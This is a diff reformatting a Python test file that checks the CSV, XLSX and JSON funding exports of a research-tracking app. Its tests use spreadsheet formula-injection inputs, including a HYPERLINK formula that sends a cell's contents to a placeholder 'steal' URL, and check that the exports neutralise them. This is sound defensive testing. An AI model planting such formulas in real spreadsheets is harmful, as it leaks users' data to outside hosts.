@@ -16,12 +16,24 @@ from restrack.accounts.actions import find_instrument
 from restrack.core.exports import Sheet, write_csv, write_xlsx
 from restrack.funding.actions import record_funding
 from restrack.publish import selectors
-from restrack.publish.tests.funding_samples import _shared_funding, sample_funding  # noqa: F401  (the fixtures)
-from restrack.publish.tests.funding_samples import exact, instruments_in, total
+from restrack.publish.tests.funding_samples import _shared_funding, exact, instruments_in, sample_funding, total  # noqa: F401  (the fixtures)
 from restrack.reporting.models import ReportingPeriod
 
-HEADER = ["instrument", "title", "period", "requirements_usd", "mobilized_core_usd", "mobilized_earmarked_usd",
-          "mobilized_window_usd", "mobilized_other_usd", "mobilized_usd", "gap_usd", "surplus_usd", "gap_percent", "note"]
+HEADER = [
+    "instrument",
+    "title",
+    "period",
+    "requirements_usd",
+    "mobilized_core_usd",
+    "mobilized_earmarked_usd",
+    "mobilized_window_usd",
+    "mobilized_other_usd",
+    "mobilized_usd",
+    "gap_usd",
+    "surplus_usd",
+    "gap_percent",
+    "note",
+]
 AMOUNT_COLUMNS = HEADER[3:11]
 FORMULAS = ['=HYPERLINK("http://example.org/x","click")', "+1+1", "-2+3", "@SUM(A1:A2)"]
 
@@ -45,11 +57,14 @@ def sheet_rows(worksheet) -> list[dict]:
 
 
 def test_csv_keeps_numbers_and_neutralises_formulas_in_text():
-    content = write_csv(["what", "amount", "count", "day"], [
-        *[[text, Decimal("-100.50"), -3, date(2024, 12, 31)] for text in FORMULAS],
-        ["人人享有适当住房", Decimal("1858000.55"), 7, None],
-        ["plain = text", Decimal("1E+3").quantize(Decimal("0.01")), 0, None],
-    ])
+    content = write_csv(
+        ["what", "amount", "count", "day"],
+        [
+            *[[text, Decimal("-100.50"), -3, date(2024, 12, 31)] for text in FORMULAS],
+            ["人人享有适当住房", Decimal("1858000.55"), 7, None],
+            ["plain = text", Decimal("1E+3").quantize(Decimal("0.01")), 0, None],
+        ],
+    )
     rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
     assert rows[0] == ["what", "amount", "count", "day"]
     assert [row[0] for row in rows[1:5]] == ["'" + text for text in FORMULAS]
@@ -65,13 +80,19 @@ def test_control_characters_pasted_from_a_pdf_do_not_break_the_xlsx():
 
 
 def test_xlsx_keeps_numbers_and_neutralises_formulas_in_text():
-    content = write_xlsx([
-        Sheet("Funding", ["what", "amount", "count", "day"], [
-            *[[text, Decimal("-100.50"), -3, date(2024, 12, 31)] for text in FORMULAS],
-            ["人人享有适当住房", Decimal("1858000.55"), 7, None],
-        ]),
-        Sheet("A sheet title longer than Excel's limit: [31]", ["x"], [[1]]),
-    ])
+    content = write_xlsx(
+        [
+            Sheet(
+                "Funding",
+                ["what", "amount", "count", "day"],
+                [
+                    *[[text, Decimal("-100.50"), -3, date(2024, 12, 31)] for text in FORMULAS],
+                    ["人人享有适当住房", Decimal("1858000.55"), 7, None],
+                ],
+            ),
+            Sheet("A sheet title longer than Excel's limit: [31]", ["x"], [[1]]),
+        ]
+    )
     workbook = read_xlsx(content)
     assert workbook.sheetnames == ["Funding", "A sheet title longer than Excel"]
     sheet = workbook["Funding"]
@@ -99,10 +120,23 @@ def expected_rows(period=None) -> list[dict]:
     rows = []
     for line_period, line in data.all_lines():
         figures = line.funding
-        values = [figures.requirements, *figures.mobilized_by_source.values(), figures.mobilized,
-                  figures.shortfall, figures.surplus]
-        rows.append({"instrument": line.instrument.reference, "period": line_period.label,
-                     **{name: "" if value is None else f"{value:.2f}" for name, value in zip(AMOUNT_COLUMNS, values, strict=True)}})
+        values = [
+            figures.requirements,
+            *figures.mobilized_by_source.values(),
+            figures.mobilized,
+            figures.shortfall,
+            figures.surplus,
+        ]
+        rows.append(
+            {
+                "instrument": line.instrument.reference,
+                "period": line_period.label,
+                **{
+                    name: "" if value is None else f"{value:.2f}"
+                    for name, value in zip(AMOUNT_COLUMNS, values, strict=True)
+                },
+            }
+        )
     return rows
 
 
@@ -138,7 +172,9 @@ def test_xlsx_of_one_period_matches_the_page_to_the_cent(client, sample_funding)
     assert cents["mobilized_usd"] == exact(total(html, "mobilized")) == Decimal("15540551.15")
     assert cents["gap_usd"] - cents["surplus_usd"] == exact(total(html, "gap")) == Decimal("7767448.85")
     assert cents["mobilized_window_usd"] == Decimal("400000.00")
-    exported = [{key: "" if row[key] is None else f"{Decimal(str(row[key])):.2f}" for key in AMOUNT_COLUMNS} for row in rows]
+    exported = [
+        {key: "" if row[key] is None else f"{Decimal(str(row[key])):.2f}" for key in AMOUNT_COLUMNS} for row in rows
+    ]
     period = ReportingPeriod.objects.get(label="2024-H2")
     assert exported == [{key: row[key] for key in AMOUNT_COLUMNS} for row in expected_rows(period)]
 
@@ -154,11 +190,18 @@ def test_titles_in_the_page_language(client, sample_funding):
 
 
 def test_a_formula_in_a_note_comes_back_as_text(client, sample_funding):
-    record_funding(find_instrument("resolution 2/6"), ReportingPeriod.objects.get(label="2024-H2"),
-                   note='=HYPERLINK("http://example.org/steal?x="&A1,"Details")', acting_user=sample_funding,
-                   reason="A test of formula injection")
-    row = next(r for r in read_csv(client.get("/en/funding/export.csv?period=2024-H2").content)
-               if r["instrument"] == "resolution 2/6")
+    record_funding(
+        find_instrument("resolution 2/6"),
+        ReportingPeriod.objects.get(label="2024-H2"),
+        note='=HYPERLINK("http://example.org/steal?x="&A1,"Details")',
+        acting_user=sample_funding,
+        reason="A test of formula injection",
+    )
+    row = next(
+        r
+        for r in read_csv(client.get("/en/funding/export.csv?period=2024-H2").content)
+        if r["instrument"] == "resolution 2/6"
+    )
     assert row["note"] == '\'=HYPERLINK("http://example.org/steal?x="&A1,"Details")'
     sheet = read_xlsx(client.get("/en/funding/export.xlsx?period=2024-H2").content).active
     cell = next(c for c in sheet["M"] if isinstance(c.value, str) and "HYPERLINK" in c.value)
@@ -169,8 +212,9 @@ def test_a_formula_in_a_note_comes_back_as_text(client, sample_funding):
 def test_a_period_without_published_figures_is_a_clear_404(client, sample_funding):
     response = client.get("/en/funding/export.csv?period=2025-H1")
     assert response.status_code == 404
-    assert response.content.decode() == ("No published funding figures for the period 2025-H1. "
-                                         "Published periods with figures: 2020-H1, 2024-H2.")
+    assert response.content.decode() == (
+        "No published funding figures for the period 2025-H1. Published periods with figures: 2020-H1, 2024-H2."
+    )
     assert client.get("/en/funding/export.pdf").status_code == 404
 
 
@@ -203,7 +247,9 @@ def test_json_of_every_published_period_holds_the_csvs_rows(client, sample_fundi
     assert list(rows[0]) == HEADER
     as_csv = read_csv(client.get("/en/funding/export.csv").content)
     assert [{key: "" if value is None else str(value) for key, value in row.items()} for row in rows] == as_csv
-    assert [{key: row[key] or "" for key in ("instrument", "period", *AMOUNT_COLUMNS)} for row in rows] == expected_rows()
+    assert [
+        {key: row[key] or "" for key in ("instrument", "period", *AMOUNT_COLUMNS)} for row in rows
+    ] == expected_rows()
 
 
 def test_the_public_download_and_the_apis_export_are_the_same_table(client, sample_funding):
@@ -211,19 +257,28 @@ def test_the_public_download_and_the_apis_export_are_the_same_table(client, samp
     web = json.loads(client.get("/en/funding/export.json").content)
     api = json.loads(APIClient().get("/api/v1/funding/records/export.json?lang=en").content)
     assert sorted(web, key=lambda row: (row["instrument"], row["period"])) == sorted(
-        api, key=lambda row: (row["instrument"], row["period"]))
+        api, key=lambda row: (row["instrument"], row["period"])
+    )
     listed = APIClient().get("/api/v1/funding/records/?period=2024-H2&limit=1000").json()["results"]
     web_2024 = {row["instrument"]: row for row in web if row["period"] == "2024-H2"}
-    assert {r["instrument"]: (r["requirements_usd"], r["mobilized_usd"], r["shortfall_usd"], r["surplus_usd"])
-            for r in listed} == {
+    assert {
+        r["instrument"]: (r["requirements_usd"], r["mobilized_usd"], r["shortfall_usd"], r["surplus_usd"])
+        for r in listed
+    } == {
         name: (row["requirements_usd"], row["mobilized_usd"], row["gap_usd"], row["surplus_usd"])
-        for name, row in web_2024.items()}
+        for name, row in web_2024.items()
+    }
 
 
 def test_a_formula_in_a_note_is_unchanged_in_json(client, sample_funding):
     note = '=HYPERLINK("http://example.org/steal?x="&A1,"Details")'
-    record_funding(find_instrument("resolution 2/6"), ReportingPeriod.objects.get(label="2024-H2"), note=note,
-                   acting_user=sample_funding, reason="A test of formula injection")
+    record_funding(
+        find_instrument("resolution 2/6"),
+        ReportingPeriod.objects.get(label="2024-H2"),
+        note=note,
+        acting_user=sample_funding,
+        reason="A test of formula injection",
+    )
     rows = json.loads(client.get("/en/funding/export.json?period=2024-H2").content)
     assert next(row for row in rows if row["instrument"] == "resolution 2/6")["note"] == note
 
